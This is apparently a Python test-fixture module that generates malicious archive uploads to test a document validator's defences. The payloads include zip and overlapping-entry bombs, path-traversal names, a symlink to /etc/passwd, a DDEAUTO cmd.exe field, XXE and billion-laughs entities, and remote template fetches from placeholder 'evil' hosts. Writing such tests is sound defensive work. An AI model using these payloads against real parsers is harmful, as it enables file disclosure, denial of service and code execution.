"""Documents that are archives: bombs, tricks of the format, macros, entities, things fetched from elsewhere."""

import io
import stat
import struct
import zipfile
from collections.abc import Iterator, Mapping

from proofs.uploads.case import CANARY, OWNED, PORT_MARK, TARGET, Case, refused, tamed, unsure
from proofs.uploads.pictures import picture

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpg" ContentType="image/jpeg"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{main}.main+xml"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
    '"http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w='
    '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
)
ADDRESS = f"http://{PORT_MARK.decode()}/"
Parts = Mapping[str, str | bytes]


def packed(parts: Parts, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in parts.items():
            kept = zipfile.ZIP_STORED if name == "mimetype" else method
            archive.writestr(zipfile.ZipInfo(name), content, kept)
    return made.getvalue()


def relation(kind: str, target: str, *, outside: bool = False, nth: int = 1) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rId{nth}" Type="{_R}/{kind}" Target="{target}"{mode}/>'


def docx(more: Parts | None = None, *, text: str = "Invented", relations: str = "") -> dict[str, str | bytes]:
    core = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    told = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        f' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{CANARY.decode()}</dc:creator></cp:coreProperties>'
    )
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format(part="word/document.xml", main="wordprocessingml.document"),
        "_rels/.rels": RELS.format(
            relation("officeDocument", "word/document.xml")
            + f'<Relationship Id="rId9" Type="{core}" Target="docProps/core.xml"/>'
        ),
        "word/document.xml": BODY.format(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"),
        "docProps/core.xml": told,
    }
    if relations:
        parts["word/_rels/document.xml.rels"] = RELS.format(relations)
    return {**parts, **(more or {})}


def xlsx(more: Parts | None = None) -> dict[str, str | bytes]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return {
        "[Content_Types].xml": TYPES.format(part="xl/workbook.xml", main="spreadsheetml.sheet"),
        "_rels/.rels": RELS.format(relation("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns="{main}"><sheets/></workbook>',
        **(more or {}),
    }


def odt(more: Parts | None = None, *, text: str = "Invented", kind: str = "text") -> dict[str, str | bytes]:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    names = (
        f'xmlns:office="{office}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
        ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    return {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": f"<office:document-content {names}><office:body>{text}</office:body></office:document-content>",
        "meta.xml": f'<office:document-meta xmlns:office="{office}"><office:meta>{CANARY.decode()}'
        "</office:meta></office:document-meta>",
        "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="{manifest}">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="x"/>'
        '<manifest:file-entry manifest:full-path="Thumbnails/t.png" manifest:media-type=""/>'
        "</manifest:manifest>",
        "Thumbnails/t.png": picture("PNG", 16),
        **(more or {}),
    }


def cases() -> Iterator[Case]:
    yield from _bombs()
    yield from _tricks()
    yield from _macros()
    yield from _entities()
    yield from _fetching()
    yield from _others()


def _bombs() -> Iterator[Case]:
    zeros = bytes(180 * 1024**2)
    yield refused("docx-bomb", packed(docx({"word/media/a.png": zeros})))
    yield refused(
        "docx-bomb-of-many", packed(docx({f"word/media/{n}.png": bytes(9_000_000) for n in range(20)}))
    )
    yield refused("docx-markup-bomb", packed(docx({"word/big.xml": "<a>" + " " * 90_000_000 + "</a>"})))
    inner = packed({"a": bytes(10_000_000)})
    nested = packed({f"{n}.zip": inner for n in range(16)})
    yield refused("zip-in-zip", nested)
    yield refused("docx-with-zip", packed(docx({"word/media/x.bin": nested})))
    yield refused("docx-5000-entries", packed(docx({f"word/{n}.xml": "<a/>" for n in range(5_000)})))
    yield unsure("docx-deep-markup", packed(docx({"word/deep.xml": "<a>" * 60_000 + "</a>" * 60_000})))
    yield unsure("docx-long-attribute", packed(docx({"word/long.xml": '<a b="' + "x" * 12_000_000 + '"/>'})))
    yield refused("docx-overlapping", _overlapping())
    yield refused("docx-size-lies", _lying())


def _overlapping() -> bytes:
    """Two lines of the directory that point at one entry, as better bombs do (Fifield 2019)."""
    whole = packed(docx())
    at = whole.index(b"PK\x01\x02")
    directory = whole[at : whole.rindex(b"PK\x05\x06")]
    second = bytearray(directory)
    third = second.index(b"PK\x01\x02", 4)
    first_again = bytearray(second[:third])
    name = first_again[46 : 46 + struct.unpack_from("<H", first_again, 28)[0]]
    first_again[46 : 46 + len(name)] = b"x" * len(name)
    more = directory + bytes(first_again)
    count = directory.count(b"PK\x01\x02") + 1
    return whole[:at] + more + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(more), at, 0)


def _lying() -> bytes:
    data = bytearray(packed(docx({"word/media/a.png": bytes(5_000_000)})))
    at = data.rindex(b"word/media/a.png") - 46
    struct.pack_into("<I", data, at + 24, 100)
    return bytes(data)


def _tricks() -> Iterator[Case]:
    names = {
        "climbing": f"../../../tmp/{OWNED}", "absolute": TARGET, "backslash": f"..\\..\\{OWNED}.xml",
        "drive": f"C:/{OWNED}.xml", "turned": "word/\u202egpj.xml", "control": "word/a\x01.xml", "dot": "word/./a.xml",
        "long": "word/" + "a" * 300 + ".xml", "empty-part": "word//a.xml",
    }  # fmt: skip
    for name, entry in names.items():
        yield refused(f"docx-name-{name}", packed(docx({entry: "<a/>"})))
    nul = packed(docx({"word/aXb.xml": "<a/>"})).replace(b"word/aXb.xml", b"word/a\0b.xml")
    yield refused("docx-name-nul", nul)
    yield refused("docx-names-alike", packed(docx({"word/A.xml": "<a/>", "word/a.xml": "<b/>"})))
    twice = packed(docx({"word/document.xmX": "<b/>"})).replace(b"document.xmX", b"document.xml")
    yield refused("docx-name-twice", twice)
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in docx().items():
            archive.writestr(zipfile.ZipInfo(name), content)
        archive.writestr(link, "/etc/passwd")
    yield refused("docx-link", made.getvalue())
    good = packed(docx())
    yield refused("docx-prefix", b"PK\x03\x04" + good)
    yield refused("docx-suffix", good + b"<script>alert(1)</script>")
    yield refused("docx-comment", good[:-2] + struct.pack("<H", 12) + b"<script>1234")
    yield refused("docx-two-directories", good + good[good.rindex(b"PK\x05\x06") :])
    yield refused("docx-truncated", good[: len(good) // 2])
    yield refused("docx-names-disagree", good.replace(b"word/document.xml", b"word/dokument.xml", 1))
    locked = bytearray(good)
    for at in _all(good, b"PK\x01\x02"):
        locked[at + 8] |= 1
    yield refused("docx-locked", bytes(locked))
    odd = bytearray(good)
    for at in _all(good, b"PK\x01\x02"):
        struct.pack_into("<H", odd, at + 10, 99)
    yield refused("docx-odd-method", bytes(odd))
    yield refused("docx-lzma", packed(docx(), method=zipfile.ZIP_LZMA))


def _all(data: bytes, mark: bytes) -> Iterator[int]:
    at = data.find(mark)
    while at >= 0:
        yield at
        at = data.find(mark, at + 1)


def _macros() -> Iterator[Case]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield refused("docx-macro", packed(docx({"word/vbaProject.bin": ole})))
    types = str(docx()["[Content_Types].xml"]).replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
    )
    yield refused("docm", packed(docx({"[Content_Types].xml": types})))
    yield refused("docx-macro-renamed", packed(docx({"word/media/image1.png": ole})))
    yield refused("docx-program", packed(docx({"word/media/image1.png": b"MZ" + bytes(500)})))
    yield refused("docx-embedded-docx", packed(docx({"word/embeddings/a.docx": packed(docx())})))
    yield refused("docx-activex", packed(docx({"word/activeX/activeX1.xml": "<a/>"})))
    yield refused("docx-altchunk", packed(docx({"word/document.xml": BODY.format("<w:altChunk/>")})))
    for code in ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', ' DDE "x" "y"'):
        field = BODY.format(f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>")
        yield refused(f"docx-{code.split()[0].lower()}", packed(docx({"word/document.xml": field})))
    yield refused("docx-html", packed(docx({"word/page.html": "<script>alert(1)</script>"})))
    yield refused("xlsx-macro", packed(xlsx({"xl/vbaProject.bin": ole})))
    yield refused("xlsx-macrosheet", packed(xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})))
    yield refused("xlsx-external", packed(xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"})))
    yield refused("odt-basic", packed(odt({"Basic/Standard/Module1.xml": "<a/>"})))
    yield refused("odt-script", packed(odt({"Scripts/python/evil.py": f"open('/tmp/{OWNED}','w')"})))
    event = '<office:scripts><script:event-listener script:language="ooo:script"/></office:scripts>'
    yield refused("odt-event", packed(odt(text=event)))
    yield refused("odt-object", packed(odt({"Object 1": ole})))


def _entities() -> Iterator[Case]:
    xxe = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    far = f'<!DOCTYPE a SYSTEM "{ADDRESS}evil.dtd">'
    laughs = "<!DOCTYPE a [<!ENTITY a '" + "ha" * 50 + "'>" + "".join(
        f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9)
    ) + "]>"  # fmt: skip
    for name, head in (("file", xxe), ("far", far), ("laughs", laughs)):
        body = f"{head}<a>&x;&j;</a>"
        yield refused(f"docx-entity-{name}", packed(docx({"word/document.xml": body})))
        yield refused(f"docx-entity-{name}-rels", packed(docx({"_rels/.rels": body})))
        yield refused(f"odt-entity-{name}", packed(odt({"content.xml": body})))
        yield refused(f"docx-entity-{name}-utf16", packed(docx({"word/document.xml": body.encode("utf-16")})))
    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'
    yield refused("docx-utf7", packed(docx({"word/document.xml": utf7})))
    yield refused("docx-not-markup", packed(docx({"word/document.xml": "<a><b></a>"})))
    include = '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>'
    yield unsure("docx-xinclude", packed(docx({"word/inc.xml": include})), b"root:")


def _fetching() -> Iterator[Case]:
    for kind in (
        "attachedTemplate",
        "image",
        "oleObject",
        "frame",
        "subDocument",
        "externalLinkPath",
        "video",
    ):
        yield refused(f"docx-fetches-{kind}", packed(docx(relations=relation(kind, ADDRESS, outside=True))))
    share = relation("attachedTemplate", "file://evil/share/x.dotm", outside=True)
    yield refused("docx-fetches-share", packed(docx(relations=share)))
    yield tamed(
        "docx-link-out", packed(docx(relations=relation("hyperlink", ADDRESS, outside=True))), PORT_MARK
    )
    image = f'<draw:image xlink:href="{ADDRESS}x.png"/>'
    yield tamed("odt-image-out", packed(odt(text=image)), PORT_MARK)
    yield tamed("odt-share-out", packed(odt(text='<draw:image xlink:href="file://evil/share"/>')), b"evil")
    yield tamed(
        "docx-author",
        packed(
            docx(
                text=f'<w:ins w:author="{CANARY.decode()}">x</w:ins>'.replace(
                    "<w:ins", "a</w:t></w:r><w:ins"
                ).replace("</w:ins>", "</w:ins><w:r><w:t>")
            )
        ),
        CANARY,
    )
    yield tamed("docx-custom", packed(docx({"customXml/item1.xml": f"<a>{CANARY.decode()}</a>"})))
    yield tamed("odt-meta", packed(odt()))


def _others() -> Iterator[Case]:
    yield refused("zip", packed({"a.txt": "a"}))
    yield refused(
        "jar", packed({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
    )
    yield refused("apk", packed({"AndroidManifest.xml": b"\3\0", "classes.dex": b"dex\n035"}))
    epub = {"mimetype": "application/epub+zip", "META-INF/container.xml": "<a/>"}
    yield refused("epub", packed(epub))
    yield refused(
        "pptx-as-docx",
        packed(
            {
                "[Content_Types].xml": TYPES.format(part="ppt/p.xml", main="presentationml.presentation"),
                "_rels/.rels": RELS.format(""),
            }
        ),
    )
    both = str(docx()["[Content_Types].xml"]).replace(
        "</Types>",
        '<Override PartName="/x" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    )
    yield refused("docx-and-xlsx", packed(docx({"[Content_Types].xml": both})))
    yield refused("odt-without-content", packed({"mimetype": "application/vnd.oasis.opendocument.text"}))
    yield refused("zip-empty", b"PK\x05\x06" + bytes(18))
